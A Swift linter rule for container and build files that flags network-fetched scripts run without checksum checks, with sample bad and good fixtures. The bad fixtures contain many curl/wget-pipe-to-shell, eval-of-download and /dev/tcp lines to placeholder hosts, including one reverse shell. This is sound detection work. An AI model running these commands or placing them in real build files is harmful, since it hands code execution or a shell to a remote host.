// SPDX-License-Identifier: Apache-2.0

extension Rule {
    static let containerScriptPipedToShell = Rule(
        id: "BKL-D027",
        title: "Script from the network is run unseen",
        severity: .error,
        why: """
            Whoever can change what the address answers, today or later, runs commands in the image as its builder. Over https \
            that is whoever the address belongs to, or has broken in there: a warning. In clear it is everyone on the way.
            """,
        mend: "Load the file, compare its checksum with one that is written here, then run it.",
        references: [.cwe(494), .cwe(829), .owaspLLM("LLM05")],
        bad: [
            .file("devcontainer.json", "{\"postCreateCommand\": {\"tools\": \"curl https://e.example/x | sh\"}}\n"),
            .file(
                "compose.yaml",
                "services:\n  a:\n    image: a:1.0\nconfigs:\n  start:\n    content: |\n      #!/bin/sh\n"
                    + "      curl https://e.example/x | sh\n"
            ),
            .file(
                "compose.yaml",
                "services:\n  a:\n    image: a:1.0\n    configs: [{source: start, target: /start.sh}]\n"
                    + "configs:\n  start: {content: 'curl https://e.example/x | sh'}\n"
            ),
            .file(
                "configmap.yaml",
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n  start.sh: |\n"
                    + "    curl https://e.example/x | sh\n"
            ),
            .dockerfile("FROM debian:12\nRUN curl -fsSL http://example.org/install.sh | bash"),
            .dockerfile("FROM debian:12\nRUN curl -fsSL https://example.org/install.sh | sudo -E bash -"),
            .dockerfile("FROM debian:12\nRUN bash -c \"$(wget -qO- https://example.org/install.sh)\""),
            .script("wget -qO- https://example.org/get.py | python3"),
            .script("eval \"$(curl -fsSL https://example.org/env)\""),
            .script("bash <(curl -fsSL https://example.org/install.sh)"),
            .script("source <(curl -fsSL https://example.org/env)"),
            .script("curl -fsSL https://example.org/a | tee a.sh | base64 -d | bash -x /dev/stdin install"),
            .script("(curl -fsSL https://example.org/a || wget -qO- https://example.org/a) 2>/dev/null | sh"),
            .script("if true; then curl https://example.org/a; fi | sh"),
            .script("bash <<< \"$(curl -fsSL https://example.org/a)\""),
            .script("curl -fsSL https://example.org/a | xargs -I{} sh -c '{}'"),
            .script("X=$(curl -fsSL https://example.org/a)\neval \"$X\""),
            .script("local x; x=\"$(wget -qO- https://example.org/a)\"; echo \"$x\" | bash"),
            .dockerfile("FROM debian:12\nARG URL=http://example.org/a\nRUN curl -fsSL $URL | sh"),
            .dockerfile("FROM debian:12\nRUN curl -fsSL -o /tmp/a.sh https://example.org/a\nRUN bash /tmp/a.sh"),
            .dockerfile("FROM debian:12\nRUN wget https://example.org/x/a.sh?b=c && chmod +x a.sh && ./a.sh"),
            .dockerfile("FROM debian:12\nADD https://example.org/a.sh /tmp/\nRUN sh /tmp/a.sh"),
            .script("curl -fsSLO https://example.org/a.sh\n. ./a.sh"),
            .script("curl -fsSL https://example.org/a > a.py; python3 -u a.py --yes"),
            .script("f=/tmp/a; wget -qO $f https://example.org/a; sh $f"),
            .script("sha256sum -c a.sum; curl -sO https://example.org/a.sh; bash a.sh"),
            .script("curl -sO https://example.org/a.sh; echo 'abc b.sh' | sha256sum -c -; bash a.sh"),
            .script("python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.org/a').read())\""),
            .script("perl -e 'use LWP::Simple; eval get(\"https://example.org/a\")'"),
            .script("node -e \"fetch('https://example.org/a').then(r => r.text()).then(eval)\""),
            .script("ruby -e 'require \"open-uri\"; eval URI.open(\"https://example.org/a\").read'"),
            .script("echo ZG9ja2VyIHJ1biAtLXByaXZpbGVnZWQK | base64 -d | sh"),
            .script("dig +short TXT a.example.org | sh"),
            .script("eval \"$(dig +short TXT a.example.org)\""),
            .script("aws s3 cp s3://bucket/a.sh - | sh"),
            .script("aws s3 cp --region eu-1 s3://bucket/a.sh /tmp/b.sh; bash /tmp/b.sh"),
            .script("gsutil cat gs://bucket/a.sh | bash -s x"),
            .script("gcloud storage cat gs://bucket/a.sh | bash"),
            .script("az storage blob download -c a -n a.sh -f /dev/stdout | sh"),
            .script("rclone cat r:a.sh | sh"),
            .script("kubectl get configmap a -o jsonpath={.data.a} | sh"),
            .script("ssh a.example.org cat a.sh | sh"),
            .script("exec 3<>/dev/tcp/a.example.org/80; echo GET >&3; bash <&3"),
            .script("exec 3<>/dev/tcp/a.example.org/80\ncat <&3 | bash"),
            .script("bash < /dev/tcp/a.example.org/80"),
            .container("command: [bash, -c, 'bash -i >& /dev/tcp/a.example.org/80 0>&1']"),
            .script("eval \"$(echo ZG9ja2VyIHJ1biAtLXByaXZpbGVnZWQK | base64 --decode)\""),
        ],
        good: [
            .file(
                "configmap.yaml",
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n  help: |\n"
                    + "    curl https://e.example/x | sh\n"
            ),
            .dockerfile("FROM debian:12\nRUN curl -fsSLO https://example.org/i.sh && sha256sum -c i.sum && sh i.sh"),
            .dockerfile(
                "FROM debian:12\nRUN curl -fsSLo i.sh https://example.org/i\n"
                    + "RUN echo \"0123  i.sh\" | sha256sum --check - && bash ./i.sh"
            ),
            .dockerfile(
                "FROM debian:12\nRUN wget https://example.org/i.sh && gpg --verify i.sh.asc i.sh && sh i.sh"
            ),
            .dockerfile("FROM debian:12\nADD --checksum=sha256:01 https://example.org/a.sh /a.sh\nRUN sh /a.sh"),
            .script("curl -s https://example.org/status | grep ok"),
            .script("echo 'curl https://example.org | bash'"),
            .script("curl -fsSL -o a.tgz https://example.org/a.tgz; tar -xf a.tgz; sh build.sh"),
            .script(
                "curl -s https://example.org/a.json | python3 -m json.tool; x=$(curl https://example.org/a); echo $x"
            ),
            .script("python3 -c \"import urllib.request as u; print(u.urlopen('https://localhost/livez').status)\""),
            .script("base64 -d <<< \"$KEY\" > key.pem"),
            .script("kubectl get pods -o name | xargs -I{} sh -c 'kubectl logs {}'"),
            .script("NS=$(kubectl get ns -o name); bash deploy.sh \"$NS\" $(dig +short a.example.org)"),
            .script("aws s3 cp s3://bucket/a.tar /tmp/a.tar; (echo > /dev/tcp/db/5432) && bash start.sh"),
            .script("aws s3 cp a.sh s3://bucket/a.sh; bash a.sh; gsutil cp -r ./b.sh gs://bucket/b.sh && sh ./b.sh"),
            .script("exec 3< list; while read -r line <&3; do echo $line; done; bash <&3"),
            .script("ssh a.example.org cat a.txt | grep a; aws s3 ls | sh list.sh"),
        ],
        checks: [
            .shellScript { script, findings in
                var downloads = Downloads(script)
                for sequence in script.sequences {
                    for index in sequence.indices {
                        let command = sequence[index]
                        downloads.take(sequence, at: index)
                        guard let origin = downloads.origin(of: sequence, at: index) else { continue }
                        findings.add(
                            origin.place,
                            "\(Printed.quoted(command.program)) runs what \(Printed.quoted(origin.program)) \(origin.deed), unseen",
                            weaker: origin.isPlain ? nil : .warning
                        )
                    }
                }
            }
        ]
    )
}
